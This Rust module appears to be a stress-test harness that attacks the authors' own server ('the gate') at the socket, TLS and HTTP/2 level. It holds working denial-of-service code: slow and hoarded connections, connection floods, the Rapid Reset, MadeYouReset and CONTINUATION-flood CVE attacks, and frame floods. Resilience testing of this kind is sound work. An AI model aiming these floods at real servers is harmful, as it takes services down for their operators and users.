//! Attacks below the calls: sockets, handshakes, and HTTP/2 frames that no client would send.

use std::future::Future;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};
use tokio_rustls::client::TlsStream;

use super::ground::intruder;
use super::tally::Tally;
use super::wire::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, PRIORITY, RESET, SETTINGS, Target,
    WINDOW_UPDATE, block, call, field, frame, message, opening, read_all,
};

type Tls = TlsStream<TcpStream>;

/// What a flood writes: the how-many-eth piece.
pub(super) type Piece = fn(u32) -> Vec<u8>;

/// Does something over and over in several tasks at once.
pub(super) async fn over_and_over<F, Fut>(tasks: usize, attack: F)
where
    F: Fn(usize) -> Fut + Clone + Send + 'static,
    Fut: Future<Output = ()> + Send + 'static,
{
    let mut all = JoinSet::new();
    for number in 0..tasks {
        let attack = attack.clone();
        all.spawn(async move {
            loop {
                attack(number).await;
                sleep(PAUSE).await;
            }
        });
    }
    while all.join_next().await.is_some() {}
}

/// Between two tries of one task: an attacker whose connections are refused goes on, but a loop
/// without any pause would only measure the machine's own loopback.
const PAUSE: Duration = Duration::from_millis(5);

/// Connects and says so much and no more: nothing, half of a hello, half of a preface.
pub(super) async fn silence(target: Target, tally: Tally, said: &'static [u8]) {
    over_and_over(200, move |_| {
        let (target, tally) = (target.clone(), tally.clone());
        async move {
            let Ok(mut tcp) = target.tcp().await else { return tally.one("refused_connections") };
            tally.one("connections");
            if tcp.write_all(said).await.is_ok() {
                drop(tcp.read_to_end(&mut Vec::new()).await);
            }
            tally.one("closed");
        }
    })
    .await;
}

/// Finishes the handshake and then says half of the preface.
pub(super) async fn half_preface(target: Target, tally: Tally) {
    over_and_over(50, move |number| {
        let (target, tally) = (target.clone(), tally.clone());
        async move {
            let Some(mut tls) = connect(&target, &tally, number).await else { return };
            let half = PREFACE.get(..12).unwrap_or_default();
            if tls.write_all(half).await.is_ok() {
                drop(tls.read_to_end(&mut Vec::new()).await);
            }
            tally.one("closed");
        }
    })
    .await;
}

/// Connects again and again, with nothing or a whole handshake.
pub(super) async fn connects(target: Target, tally: Tally, handshakes: bool) {
    over_and_over(128, move |number| {
        let (target, tally) = (target.clone(), tally.clone());
        async move {
            if handshakes {
                drop(connect(&target, &tally, number).await);
            } else {
                match target.tcp().await {
                    Ok(_) => tally.one("connections"),
                    Err(_) => tally.one("refused_connections"),
                }
            }
        }
    })
    .await;
}

/// Holds as many connections as it gets: of one address, of one identity.
pub(super) async fn hoard(target: Target, tally: Tally) {
    over_and_over(500, move |_| {
        let (target, tally) = (target.clone(), tally.clone());
        async move {
            let Some(mut tls) = connect(&target, &tally, 0).await else { return };
            drop(tls.write_all(&opening()).await);
            read_all(tls, &tally).await;
            tally.one("closed");
        }
    })
    .await;
}

async fn connect(target: &Target, tally: &Tally, number: usize) -> Option<Tls> {
    if let Ok(tls) = target.tls(&intruder(number)).await {
        tally.one("connections");
        Some(tls)
    } else {
        tally.one("refused_connections");
        None
    }
}

/// Floods connections with frames as fast as they are taken, or one piece each time.
pub(super) async fn flood(target: Target, tally: Tally, piece: Piece, pace: Option<Duration>) {
    over_and_over(8, move |number| {
        let (target, tally) = (target.clone(), tally.clone());
        async move {
            let Some(tls) = connect(&target, &tally, number).await else { return };
            flood_one(tls, &tally, piece, pace).await;
            tally.one("closed");
        }
    })
    .await;
}

async fn flood_one(tls: Tls, tally: &Tally, piece: Piece, pace: Option<Duration>) {
    let (reading, mut writing) = split(tls);
    let mut reading = std::pin::pin!(read_all(reading, tally));
    let written = async {
        let mut bytes = opening();
        for number in 0_u32.. {
            bytes.extend(piece(number));
            if writing.write_all(&bytes).await.is_err() || writing.flush().await.is_err() {
                break;
            }
            tally.one("pieces");
            bytes.clear();
            if let Some(pace) = pace {
                sleep(pace).await;
            }
        }
    };
    tokio::select! {
        () = &mut reading => return,
        () = written => {}
    }
    // What the gate said before it closed.
    drop(timeout(Duration::from_millis(500), reading).await);
}

/// Streams of clients have odd numbers.
const fn stream(number: u32) -> u32 {
    number.wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff
}

fn many(number: u32, count: u32, piece: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..count).flat_map(|one| piece(number.wrapping_mul(count).wrapping_add(one))).collect()
}

const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// CVE-2023-44487: calls that are cancelled at once.
pub(super) fn rapid_reset(number: u32) -> Vec<u8> {
    many(number, 50, slow_reset)
}

/// The same, one at a time, below what HTTP/2 libraries look at.
pub(super) fn slow_reset(number: u32) -> Vec<u8> {
    [call(stream(number), "Send"), frame(RESET, 0, stream(number), &CANCEL)].concat()
}

/// CVE-2025-8671: the other side is made to reset, by a broken frame for each stream.
pub(super) fn made_you_reset(number: u32) -> Vec<u8> {
    many(number, 20, |one| {
        [call(stream(one), "Send"), frame(WINDOW_UPDATE, 0, stream(one), &[0; 4])].concat()
    })
}

/// CVE-2024-27316: headers that do not end.
pub(super) fn continuation(number: u32) -> Vec<u8> {
    if number == 0 {
        return frame(HEADERS, 0, 1, &block("Send", &[]));
    }
    many(number, 50, |_| frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"))
}

/// A header, byte by byte.
pub(super) fn header_drip(number: u32) -> Vec<u8> {
    if number == 0 { frame(HEADERS, 0, 1, b"\0") } else { frame(CONTINUATION, 0, 1, b"") }
}

/// Calls that are begun and never finished.
pub(super) fn open_streams(number: u32) -> Vec<u8> {
    many(number, 20, |one| call(stream(one), "Send"))
}

pub(super) fn pings(number: u32) -> Vec<u8> {
    many(number, 200, |_| frame(PING, 0, 0, &[0; 8]))
}

pub(super) fn settings(number: u32) -> Vec<u8> {
    many(number, 200, |_| frame(SETTINGS, 0, 0, b""))
}

pub(super) fn priorities(number: u32) -> Vec<u8> {
    many(number, 200, |one| frame(PRIORITY, 0, stream(one), &[0, 0, 0, 0, 16]))
}

pub(super) fn empty_data(number: u32) -> Vec<u8> {
    let first = if number == 0 { call(1, "Send") } else { Vec::new() };
    [first, many(number, 100, |_| frame(DATA, 0, 1, b""))].concat()
}

pub(super) fn tiny_data(number: u32) -> Vec<u8> {
    let first = if number == 0 { call(1, "Send") } else { Vec::new() };
    [first, many(number, 100, |_| frame(DATA, 0, 1, b"\0"))].concat()
}

/// Headers far beyond what is taken.
pub(super) fn huge_headers(number: u32) -> Vec<u8> {
    let more: Vec<u8> = block("Send", &[("x", &"y".repeat(60_000))]);
    let mut chunks = more.chunks(16_384).peekable();
    let (mut kind, mut frames) = (HEADERS, Vec::new());
    while let Some(chunk) = chunks.next() {
        let flags = if chunks.peek().is_none() { END_HEADERS } else { 0 };
        frames.extend(frame(kind, flags, stream(number), chunk));
        kind = CONTINUATION;
    }
    frames
}

/// Opens a session and reads nothing of what it is given.
pub(super) async fn blind_session(target: &Target, tally: &Tally) {
    let Ok(mut tls) = target.tls("blind").await else {
        return tally.one("refused_connections");
    };
    let hello = field(1, &field(1, b"blind"));
    let bytes = [opening(), call(1, "Transport"), message(1, 0, &hello)].concat();
    drop(tls.write_all(&bytes).await);
    // Held, and never read: the gate's bytes fill the sockets on the way.
    loop {
        sleep(Duration::from_millis(200)).await;
        // A write to a connection that the gate has ended fails.
        if tls.write_all(&frame(PING, 0, 0, &[0; 8])).await.is_err() {
            return tally.one("closed");
        }
    }
}
